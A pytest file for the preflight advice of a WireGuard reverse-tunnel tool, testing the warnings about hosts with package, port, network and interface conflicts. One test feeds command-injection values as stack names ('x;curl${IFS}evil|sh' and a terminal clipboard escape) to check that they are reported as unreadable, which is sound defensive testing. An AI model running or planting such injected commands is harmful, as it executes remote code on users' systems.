"""What is said of a host, from facts: each thing that can be wrong, and silence where it is not."""

from dataclasses import replace
from ipaddress import IPv4Network, IPv6Network

import pytest

from components.preflight.advice import advise
from components.preflight.host_facts import PublicPorts, parse_facts
from components.preflight.wanted import Wanted
from settings import Packages, Ports, Protocol
from tests.components.sshd import facts_text

SERVER = Wanted("wg0", "reverse-tunnel/home", IPv4Network("172.16.0.0/24"), Packages.INSTALL)
VPS = replace(SERVER, listen_port=51820)


def said(text: str, wanted: Wanted = VPS) -> list[str]:
    return advise(parse_facts(text), wanted)


def only(text: str, wanted: Wanted = VPS) -> str:
    (advice,) = said(text, wanted)
    return advice


@pytest.mark.parametrize("wanted", [VPS, SERVER, replace(VPS, public_interface="ens6")])
def test_a_fresh_host_is_fine(wanted: Wanted) -> None:
    assert said(facts_text(missing="wireguard-tools iptables"), wanted) == []


def test_the_stacks_own_running_tunnel_is_fine() -> None:
    text = facts_text(
        "wg0 reverse-tunnel/home 51820 172.16.0.1/24",
        interfaces="lo ens6 wg0",
        udp_ports="51820:wg0",
        routes="172.16.0.0/24@wg0 203.0.113.0/24@ens6",
    )
    assert said(text) == []


def test_the_stacks_own_half_made_tunnel_is_fine() -> None:
    """The next `up` converges."""
    assert said(facts_text("wg0 - - -", interfaces="lo ens6 wg0")) == []


def test_another_stacks_tunnel_elsewhere_on_the_host_is_fine() -> None:
    text = facts_text(
        "wg1 reverse-tunnel/office 51821 172.17.0.1/24",
        interfaces="lo ens6 wg1",
        udp_ports="51821:wg1",
        routes="172.17.0.0/24@wg1",
    )
    assert said(text) == []


def test_a_system_without_apt_names_the_packages_and_the_setting() -> None:
    text = facts_text(os_name="Alpine Linux v3.20", apt="no", missing="wireguard-tools iptables")
    advice = only(text)
    assert "runs Alpine Linux v3.20" in advice
    assert "wireguard-tools, iptables" in advice
    assert "packages: manual" in advice


def test_a_system_without_apt_that_has_everything_is_fine() -> None:
    assert said(facts_text(os_name="Arch Linux", apt="no")) == []


def test_manual_packages_that_are_missing_are_named() -> None:
    manual = replace(VPS, packages=Packages.MANUAL)
    assert "Install there: conntrack." in only(facts_text(missing="conntrack"), manual)
    assert said(facts_text(), manual) == []


@pytest.mark.parametrize("packages", Packages)
@pytest.mark.parametrize(
    ("missing", "names"),
    [
        ("iptables", "iptables (Debian's names)"),
        ("conntrack iptables", "(Debian's names; conntrack is mostly conntrack-tools)"),
    ],
)
def test_where_there_is_no_apt_packages_may_have_other_names(
    missing: str, names: str, packages: Packages
) -> None:
    wanted = replace(VPS, packages=packages)
    assert names in only(facts_text(apt="no", missing=missing), wanted)


@pytest.mark.parametrize("version", ["4.4", "3.2"])
def test_a_bash_that_cannot_run_the_helper_is_said_with_its_version(version: str) -> None:
    assert f"with bash {version}, and the tunnel needs 5.0" in only(facts_text(bash=version))


def test_so_is_none_at_all() -> None:
    assert "without bash" in only(facts_text(bash=""))


@pytest.mark.parametrize("version", ["5.0", "5.2", "6.0", "10.1"])
def test_a_bash_that_can_is_fine(version: str) -> None:
    assert said(facts_text(bash=version)) == []


def test_a_system_without_systemd_is_said() -> None:
    assert "without systemd" in only(facts_text(systemd="no"))


def test_a_missing_tun_device_is_said() -> None:
    assert "no TUN device" in only(facts_text(tun="no"))


@pytest.mark.parametrize(("disk", "missing"), [("7", ""), ("199", "iptables")])
def test_a_full_disk_is_said(disk: str, missing: str) -> None:
    assert f"has {disk} MB of disk space left" in only(facts_text(disk=disk, missing=missing))


@pytest.mark.parametrize(("disk", "missing"), [("8", ""), ("200", "iptables")])
def test_packages_need_more_space_than_files(disk: str, missing: str) -> None:
    assert said(facts_text(disk=disk, missing=missing)) == []


def test_a_name_taken_by_another_stack_is_said_with_its_name() -> None:
    text = facts_text("wg0 reverse-tunnel/office 51820 172.16.0.1/24", udp_ports="51820:wg0")
    advice = only(text)
    assert "tunnel wg0, of the stack reverse-tunnel/office" in advice
    assert "network.interface" in advice


@pytest.mark.parametrize(
    ("owner", "way_back"),
    [
        ("reverse-tunnel/old-home", "`pulumi stack rename old-home`"),
        ("library/home", None),  # of another program, so it was not renamed
    ],
)
def test_a_stack_that_was_renamed_is_told_the_way_back(owner: str, way_back: str | None) -> None:
    advice = only(facts_text(f"wg0 {owner} 51820 172.16.0.1/24", udp_ports="51820:wg0"))
    assert f"of the stack {owner}" in advice
    assert ("stack rename" in advice) == (way_back is not None)
    assert (way_back or "") in advice


@pytest.mark.parametrize("owner", ["x;curl${IFS}evil|sh", "\x1b]52;c;aGk=\x07", "-x", "a/b"])
def test_no_command_is_made_of_what_is_no_stacks_name(owner: str) -> None:
    advice = only(facts_text(f"wg0 reverse-tunnel/{owner} 51820 172.16.0.1/24"))
    assert "already has a tunnel wg0, of the stack (unreadable). Choose another name" in advice
    assert "rename" not in advice


def test_a_name_taken_by_an_interface_that_no_up_has_made_is_said() -> None:
    text = facts_text(interfaces="lo ens6 wg0")
    assert "interface wg0, which `pulumi up` has not made" in only(text)


def test_one_of_this_stack_that_has_lost_its_files_is_taken_on() -> None:
    """The probe knows it by the file of wg-quick; another stack's is refused by its name."""
    files_lost = {"interfaces": "lo ens6 wg0", "udp_ports": "51820:wg0"}
    assert said(facts_text("wg0 reverse-tunnel/home - -", **files_lost)) == []
    assert "of the stack other/home" in only(facts_text("wg0 other/home - -", **files_lost))


def test_on_a_server_it_may_be_by_the_script_and_what_removes_that_is_said() -> None:
    """It had no ssh until now."""
    text = facts_text(interfaces="lo ens6 wg0")
    assert "`reverse-tunnel server NAME --uninstall`" in only(text, SERVER)
    assert "--uninstall" not in only(text, VPS)


def test_a_port_taken_by_another_stack_is_said_with_its_name() -> None:
    text = facts_text("wg1 reverse-tunnel/office 51820 172.17.0.1/24", udp_ports="51820:wg1")
    advice = only(text)
    assert "UDP port 51820 for the tunnel wg1 of the stack reverse-tunnel/office" in advice
    assert "network.listenPort" in advice


def test_a_port_taken_by_a_program_is_said_with_its_name() -> None:
    assert "another program (openvpn)" in only(facts_text(udp_ports="51820:openvpn"))


def test_a_port_that_another_stack_forwards_is_said_with_both_names() -> None:
    other = "wg1 reverse-tunnel/office 51821 10.9.0.1/24 {} play:{}"
    advice = only(facts_text(other.format("ens6", "udp:51815-51825")))
    assert "UDP port 51820: play of the tunnel wg1 of the stack reverse-tunnel/office" in advice
    assert "network.listenPort" in advice
    for fine in (("ens6", "tcp:51820"), ("ens7", "udp:51820"), ("ens6", "udp:51822")):
        assert said(facts_text(other.format(*fine))) == []


def test_a_server_listens_on_no_fixed_port() -> None:
    assert said(facts_text(udp_ports="51820:openvpn"), SERVER) == []


def test_a_network_taken_by_another_stack_is_said_with_its_name() -> None:
    text = facts_text("wg1 reverse-tunnel/office 51821 172.16.0.1/25")
    advice = only(text)
    assert "172.16.0.0/25 for the tunnel wg1 of the stack reverse-tunnel/office" in advice
    assert "network.cidr" in advice


def test_so_is_one_of_ipv6_and_one_behind_its_servers() -> None:
    """Each once, and its own network not again."""
    other = "wg1 reverse-tunnel/office 51821 10.9.0.1/24"
    dual = replace(VPS, ipv6=IPv6Network("fd5c:91e2:7a3b::/64"))
    routes = "10.9.0.0/24@wg1 10.9.0.7/32@wg1 {}@wg1"
    for network, key in (("fd5c:91e2:7a3b::/64", "ipv6"), ("172.16.0.0/16", "cidr")):
        advice = only(facts_text(other, routes=routes.format(network)), dual)
        assert f"{network} by the tunnel wg1 of the stack reverse-tunnel/office" in advice
        assert f"network.{key}" in advice
    assert said(facts_text(other, routes=routes.format("192.168.9.0/24")), dual) == []
    overlapping = facts_text(
        "wg1 reverse-tunnel/office 51821 172.16.0.1/25", routes="172.16.0.0/25@wg1"
    )
    assert "network.cidr" in only(overlapping)


def test_a_network_reached_by_another_interface_is_said() -> None:
    assert "172.16.0.0/16 by its interface eth1" in only(facts_text(routes="172.16.0.0/16@eth1"))


@pytest.mark.parametrize(
    ("routes", "fine"),
    [
        ("172.16.0.0/12@ens6:beyond", True),
        ("0.0.0.0/1@vpn0:beyond 128.0.0.0/1@vpn0:beyond", True),
        ("172.16.0.0/12@ens6", False),
        ("172.16.0.0/24@ens6:beyond", False),
        ("172.16.0.128/25@ens6:beyond", False),
    ],
)
def test_a_wider_network_that_the_host_is_not_in_gives_way_to_the_tunnels(
    routes: str, *, fine: bool
) -> None:
    """Behind a router, as in many clouds, or in a VPN, as half of the internet may be.

    The helper's judgement is the same, see tests/host/test_two_tunnels.py.
    """
    assert (said(facts_text(routes=routes)) == []) == fine
    behind = replace(VPS, network=IPv4Network("10.9.0.0/24"), behind=((SERVER.network, "homelab"),))
    assert (said(facts_text(routes=routes), behind) == []) == fine


def test_a_network_of_ipv6_reached_by_another_interface_is_said() -> None:
    dual = replace(VPS, ipv6=IPv6Network("fd5c:91e2:7a3b::/64"))
    text = facts_text(
        routes="fd5c:91e2:7a3b::/48@eth1 fd5c:91e2:7a3c::/64@eth1 fd00::/8@vpn0:beyond"
    )
    advice = only(text, dual)
    assert "fd5c:91e2:7a3b::/48 by its interface eth1" in advice
    assert "network.ipv6" in advice
    assert advise(parse_facts(text), VPS) == []


BEHIND = replace(VPS, behind=((IPv4Network("172.17.0.0/16"), "homelab"),))


@pytest.mark.parametrize("interface", ["docker0", "wg1"])
def test_a_network_behind_a_server_that_the_vps_has_itself_is_said(interface: str) -> None:
    """Docker's first network is the same on both hosts; another stack may lead to the same LAN."""
    advice = only(facts_text(routes=f"172.17.0.0/16@{interface} 10.0.0.0/24@eth1"), BEHIND)
    assert f"the network 172.17.0.0/16 by its interface {interface}" in advice
    assert "servers.homelab.networks" in advice


def test_a_network_behind_a_server_that_the_vps_reaches_by_the_tunnel_is_fine() -> None:
    text = facts_text(
        "wg0 reverse-tunnel/home 51820 172.16.0.1/24",
        interfaces="lo ens6 wg0",
        udp_ports="51820:wg0",
        routes="172.16.0.0/24@wg0 172.17.0.0/16@wg0 172.18.0.0/16@docker0",
    )
    assert said(text, BEHIND) == []


def forwarding(*forwards: str, public: str | None = None) -> Wanted:
    """The VPS with forwards such as `web:tcp:80`."""
    parts = (each.split(":") for each in forwards)
    ports = {"http": Ports(80, 80), "game": Ports(27000, 27003)}
    wanted = tuple(
        PublicPorts(name, Protocol(protocol), ports.get(port) or Ports(int(port), int(port)))
        for name, protocol, port in parts
    )
    return replace(VPS, forwards=wanted, public_interface=public)


GAME = "wg1 reverse-tunnel/game 51821 172.17.0.1/24"
OFFICE = "wg2 reverse-tunnel/office 51822 172.18.0.1/24"


def test_public_ports_that_other_tunnels_have_are_said_all_at_once_with_whose_they_are() -> None:
    text = facts_text(
        f"{GAME} ens6 web:tcp:80 play:tcp+udp:27003-27010 dns:udp:53", f"{OFFICE} ens6 mail:tcp:25"
    )
    wanted = forwarding("site:tcp:http", "arena:udp:game", "wire:tcp+udp:51822", "post:tcp:25")
    advice = only(text, wanted)
    game, office = (
        f"the tunnel wg{number} of the stack reverse-tunnel/{stack}"
        for number, stack in ((1, "game"), (2, "office"))
    )
    for words in (
        f"site (tcp 80: the forward web of {game})",
        f"arena (udp 27003-27010: the forward play of {game})",
        f"wire (udp 51822: WireGuard of {office})",
        f"post (tcp 25: the forward mail of {office})",
    ):
        assert words in advice
    assert "forwards.NAME.port" in advice


@pytest.mark.parametrize(
    ("tunnel", "wanted"),
    [
        (f"{GAME} ens6 web:tcp:80", forwarding("site:udp:80", "other:tcp:81")),
        (f"{GAME} ens7 web:tcp:80", forwarding("site:tcp:80")),
        (f"{GAME} ens6 web:tcp:80", forwarding("site:tcp:80", public="ens7")),
        (f"{GAME} ens6 web:tcp:27004", forwarding("arena:tcp:game")),
        (f"{GAME} ens6", forwarding("wire:tcp:51821", "more:udp:51820")),
        ("wg0 reverse-tunnel/home 51820 172.16.0.1/24 ens6 web:tcp:80", forwarding("web:tcp:80")),
    ],
)
def test_ports_of_another_protocol_or_interface_or_its_own_are_free(
    tunnel: str, wanted: Wanted
) -> None:
    assert said(facts_text(tunnel, interfaces="lo ens6 ens7"), wanted) == []


def test_which_interface_is_public_is_told_by_the_tunnel_once_it_is_there() -> None:
    """The default route may have moved since, and the forwards have not."""
    mine = "wg0 reverse-tunnel/home 51820 172.16.0.1/24 ens6"
    moved = {"default_interface": "ens7", "interfaces": "lo ens6 ens7 wg0"}
    wanted = forwarding("site:tcp:80")
    assert said(facts_text(mine, f"{GAME} ens7 web:tcp:80", **moved), wanted) == []
    assert "site (tcp 80" in only(facts_text(mine, f"{GAME} ens6 web:tcp:80", **moved), wanted)


def test_a_folder_for_metrics_that_is_not_there_is_said() -> None:
    wanted = replace(VPS, metrics="/var/lib/node_exporter")
    advice = only(facts_text(metrics_folder="no"), wanted)
    assert "has no folder /var/lib/node_exporter" in advice
    assert "vps.metrics" in advice
    assert said(facts_text(metrics_folder="yes"), wanted) == []


@pytest.mark.parametrize("wanted", [VPS, SERVER])
@pytest.mark.parametrize("other", ["51820 172.16.0.1/24", "51821 172.17.0.1/24"])
def test_a_stacks_own_tunnel_of_another_name_is_said_whatever_its_port_and_network(
    wanted: Wanted, other: str
) -> None:
    """It would still have the forwards' ports when the new one is made, before it goes."""
    advice = only(facts_text(f"wg9 reverse-tunnel/home {other}", udp_ports="51820:wg9"), wanted)
    assert "already has this stack's own tunnel wg9" in advice
    assert "`pulumi destroy`" in advice
    assert "network.interface back to wg9" in advice


def test_a_public_interface_that_is_not_there_is_said_with_those_that_are() -> None:
    wanted = replace(VPS, public_interface="eth0")
    assert "no interface eth0 (vps.publicInterface). It has: ens6." in only(facts_text(), wanted)


def test_of_very_many_names_that_a_host_tells_the_first_are_said() -> None:
    many = " ".join(f"veth{number}" for number in range(1000))
    eth0 = replace(VPS, public_interface="eth0")
    assert only(facts_text(interfaces=many), eth0).endswith(" and 950 more.")
    manual = replace(VPS, packages=Packages.MANUAL)
    assert only(facts_text(missing=many), manual).endswith("veth49 and 950 more.")


def test_a_vps_without_a_default_route_must_name_its_interface() -> None:
    text = facts_text(default_interface="")
    assert "vps.publicInterface" in only(text)
    assert said(text, replace(VPS, public_interface="ens6")) == []
    assert said(text, SERVER) == []


def test_everything_wrong_is_said_at_once() -> None:
    assert len(said(facts_text(tun="no", disk="1", systemd="no", default_interface=""))) == 4
